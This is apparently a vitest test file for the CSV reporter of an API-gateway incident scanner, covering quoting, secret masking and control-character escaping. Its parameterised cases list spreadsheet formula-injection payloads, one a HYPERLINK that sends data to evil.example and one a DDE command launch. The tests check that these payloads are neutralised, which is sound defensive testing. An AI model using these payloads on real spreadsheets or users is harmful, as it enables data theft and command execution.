import { describe, expect, it } from 'vitest';
import { Counters } from '../../src/aggregate/counters.js';
import { IncidentAggregator } from '../../src/aggregate/incidents.js';
import type { Finding } from '../../src/model/finding.js';
import type { ApiRequest, Identity } from '../../src/model/request.js';
import { makeChalk } from '../../src/report/colour.js';
import csv, { CSV_COLUMNS, csvCell } from '../../src/report/csv.js';
import { Redactor } from '../../src/report/sanitize.js';
import { buildSummary } from '../../src/report/summary.js';
import type { ReportContext, ScanReport } from '../../src/report/types.js';
import { request } from '../helpers/requests.js';

const SECRET = 'sk_live_ABCDEFGH12345678';
const MASKED = 'sk_l…5678';

const ctx = (secrets: string[] = [SECRET]): ReportContext => ({ chalk: makeChalk(0), redact: new Redactor(secrets), width: 120 });

/**
 * A strict RFC 4180 reader, written for the test (not the project's lenient one): records end in
 * CRLF, a quoted cell may hold anything with quotes doubled, an unquoted cell holds no quote, CR
 * or LF, and anything else is an error.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          cell += '"';
          i += 2;
        } else cell += text[i++];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`quote in an unquoted cell at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}`);
  }
  if (row.length > 0) throw new Error('the last record does not end in CRLF');
  return rows;
}

type Req = Partial<Omit<ApiRequest, 'identity'>> & { identity?: Partial<Identity>; at?: string };

function finding(req: Req, f: Partial<Finding>): Finding {
  return {
    request: request({ at: '2026-11-20T03:00:41Z', ip: '203.0.113.9', method: 'DELETE', path: '/elastic/logs', file: 'logs/gw.ndjson', line: 1, ...req }),
    row: 'key-compromised',
    severity: 'critical',
    outcome: 'blocked',
    keyLabel: 'analyst-1',
    keyGroup: 'k:analyst-1',
    reasons: ['DELETE /elastic/logs not allowed for role analyst'],
    groups: ['DELETE not allowed for role analyst'],
    ...f,
  };
}

function reportOf(findings: Finding[]): ScanReport {
  const counters = new Counters();
  const aggregator = new IncidentAggregator();
  for (const x of findings) aggregator.add(x);
  const incidents = aggregator.incidents();
  const times = findings.map((x) => x.request.time);
  const summary = buildSummary({
    version: '0.1.0',
    policy: 'rules/demo-policy.yaml',
    timezone: 'Europe/Amsterdam',
    counters,
    aggregator,
    incidents: incidents.length,
    first: Math.min(...times),
    last: Math.max(...times),
  });
  return { summary, incidents };
}

/** The report of test/report/json.test.ts: three findings in two incidents; `evil` goes into the second. */
function report(evil: { path?: string; file?: string; key?: string; tenant?: string; reason?: string } = {}): ScanReport {
  return reportOf([
    finding({ at: '2026-11-20T03:05:00Z', line: 3 }, { outcome: 'blocked' }),
    finding({ at: '2026-11-20T03:00:41Z', line: 1 }, { outcome: 'let-through' }),
    finding(
      { at: '2026-11-20T09:00:00Z', ip: '10.20.0.15', method: 'GET', path: evil.path ?? '/elastic/logs/_search', file: evil.file ?? 'logs/gw.ndjson', line: 4, tenant: evil.tenant ?? '' },
      {
        row: 'when-violation',
        severity: 'medium',
        outcome: 'unknown',
        keyLabel: evil.key ?? 'analyst-2',
        keyGroup: 'k:analyst-2',
        reasons: ['31st request in 1m, limit 30'],
        groups: [evil.reason ?? 'over rate 30/1m'],
      },
    ),
  ]);
}

const HEADER = 'id,severity,row,cause,response,key,ip,tenant,first_seen,last_seen,count,let_through,blocked,reasons,actions,evidence,suppressed\r\n';

/** The cells of the second incident's row, by column name. */
function second(out: string): Record<string, string> {
  const rows = parseCsv(out);
  expect(rows).toHaveLength(3);
  return Object.fromEntries(CSV_COLUMNS.map((c, n) => [c, rows[2]![n]!]));
}

describe('csv reporter', () => {
  it('is named csv, keeps the summary on stderr and renders once at the end', () => {
    expect(csv.meta.name).toBe('csv');
    expect(csv.meta.summaryToStderr).toBe(true);
    expect(csv.finding).toBeUndefined();
  });

  it('writes a header and one row per incident, records ending in CRLF', () => {
    expect(csv.render(report(), ctx())).toBe(
      HEADER +
        'AG-9354a93d411bf1c0,critical,key-compromised,API key compromised,Block API request; Revoke API key & create new API key,analyst-1,203.0.113.9,,' +
        '2026-11-20T03:00:41.000Z,2026-11-20T03:05:00.000Z,2,1,1,2× DELETE not allowed for role analyst,2× DELETE /elastic/logs,logs/gw.ndjson:3; logs/gw.ndjson:1,\r\n' +
        'AG-730db5ba402478ff,medium,when-violation,API request exceeds rate-limit/quota; Anomalous API requests,Block API request; Investigate API key,analyst-2,10.20.0.15,,' +
        '2026-11-20T09:00:00.000Z,2026-11-20T09:00:00.000Z,1,0,0,1× over rate 30/1m,1× GET /elastic/logs/_search,logs/gw.ndjson:4,\r\n',
    );
  });

  it('parses back into exactly the cells of each incident', () => {
    const rows = parseCsv(csv.render(report(), ctx()));
    expect(rows).toEqual([
      [...CSV_COLUMNS],
      [
        'AG-9354a93d411bf1c0',
        'critical',
        'key-compromised',
        'API key compromised',
        'Block API request; Revoke API key & create new API key',
        'analyst-1',
        '203.0.113.9',
        '',
        '2026-11-20T03:00:41.000Z',
        '2026-11-20T03:05:00.000Z',
        '2',
        '1',
        '1',
        '2× DELETE not allowed for role analyst',
        '2× DELETE /elastic/logs',
        'logs/gw.ndjson:3; logs/gw.ndjson:1',
        '',
      ],
      [
        'AG-730db5ba402478ff',
        'medium',
        'when-violation',
        'API request exceeds rate-limit/quota; Anomalous API requests',
        'Block API request; Investigate API key',
        'analyst-2',
        '10.20.0.15',
        '',
        '2026-11-20T09:00:00.000Z',
        '2026-11-20T09:00:00.000Z',
        '1',
        '0',
        '0',
        '1× over rate 30/1m',
        '1× GET /elastic/logs/_search',
        'logs/gw.ndjson:4',
        '',
      ],
    ]);
  });

  it('writes only the header when there are no incidents', () => {
    const r = report();
    expect(csv.render({ summary: r.summary, incidents: [] }, ctx())).toBe(HEADER);
  });

  it('is deterministic: the same report gives the same bytes', () => {
    expect(csv.render(report(), ctx())).toBe(csv.render(report(), ctx()));
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    // A tab or CR is also printed as a visible escape, like every control character.
    ['\tcmd', "'\\x09cmd"],
    ['\rcmd', "'\\x0dcmd"],
  ])('neutralises a formula at the start of a key, a tenant and an evidence path: %j', (payload, shown) => {
    const out = csv.render(report({ key: payload, tenant: payload, file: payload }), ctx());
    const row = second(out);
    expect([row.key, row.tenant, row.evidence]).toEqual([shown, shown, `${shown}:4`]);
    // Nowhere does a cell start with the bare payload.
    for (const cells of parseCsv(out)) for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });

  it('leaves a formula character alone when it is not at the start of a cell', () => {
    const row = second(csv.render(report({ key: 'alias a=1+1', path: '/=cmd|x', reason: '@home' }), ctx()));
    expect([row.key, row.actions, row.reasons]).toEqual(['alias a=1+1', '1× GET /=cmd|x', '1× @home']);
  });

  it('round-trips a quote, a comma and a newline inside a reason', () => {
    const out = csv.render(report({ reason: 'said "no", then\nleft' }), ctx());
    // The newline is printed as the visible escape \x0a (log text never breaks a record); the cell is quoted, its quotes doubled.
    expect(out).toContain(',"1× said ""no"", then\\x0aleft",');
    expect(second(out).reasons).toBe('1× said "no", then\\x0aleft');
  });

  it('quotes a cell holding a separator, a quote, CR or LF, and only those', () => {
    expect(['plain', 'a,b', 'say "x"', 'a\r\nb', 'a\nb', 'a\rb', "it's; fine"].map(csvCell)).toEqual([
      'plain',
      '"a,b"',
      '"say ""x"""',
      '"a\r\nb"',
      '"a\nb"',
      '"a\rb"',
      "it's; fine",
    ]);
    expect(parseCsv(['a,b', 'say "x"', 'a\r\nb'].map(csvCell).join(',') + '\r\n')).toEqual([['a,b', 'say "x"', 'a\r\nb']]);
  });

  it('masks a known secret in the key, actions, reasons and evidence', () => {
    const out = csv.render(report({ key: `key ${SECRET}`, path: `/elastic/${SECRET}/_search`, file: `logs/${SECRET}.ndjson`, reason: `over rate for ${SECRET}` }), ctx());
    expect(out).not.toContain(SECRET);
    const row = second(out);
    expect([row.key, row.actions, row.reasons, row.evidence]).toEqual([
      `key ${MASKED}`,
      `1× GET /elastic/${MASKED}/_search`,
      `1× over rate for ${MASKED}`,
      `logs/${MASKED}.ndjson:4`,
    ]);
  });

  it('prints control characters as visible escapes', () => {
    const out = csv.render(report({ key: 'bob\u001b[31m', path: '/elastic/\u001b[2J', reason: 'over\u202erate', file: 'x\u0007.ndjson', tenant: 't\u0000' }), ctx());
    // Only the CRLF record ends are control characters in the output.
    expect(out.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    const row = second(out);
    expect([row.key, row.actions, row.reasons, row.evidence, row.tenant]).toEqual([
      'bob\\x1b[31m',
      '1× GET /elastic/\\x1b[2J',
      '1× over\\u202erate',
      'x\\x07.ndjson:4',
      't\\x00',
    ]);
  });

  it('says how many reasons and actions were not kept', () => {
    const r = report();
    r.incidents[1]!.otherReasons = 3;
    r.incidents[1]!.otherActions = 1;
    const row = second(csv.render(r, ctx()));
    expect([row.reasons, row.actions]).toEqual(['1× over rate 30/1m; … and 3 more', '1× GET /elastic/logs/_search; … and 1 more']);
  });

  it('lists a suppressed incident after the open ones, with its suppression', () => {
    const suppressed = { reason: 'pen test, agreed', owner: 'soc@corp.example', expires: '2026-12-31', at: 'supp.yaml:4' };
    const rows = parseCsv(
      csv.render(reportOf([finding({ line: 1 }, { suppressed }), finding({ ip: '203.0.113.10', line: 2, at: '2026-11-20T04:00:00Z' }, {})]), ctx()),
    );
    expect(rows.map((r) => [r[6], r[16]])).toEqual([
      ['ip', 'suppressed'],
      ['203.0.113.10', ''],
      ['203.0.113.9', 'until 2026-12-31: pen test, agreed (soc@corp.example; supp.yaml:4)'],
    ]);
  });
});
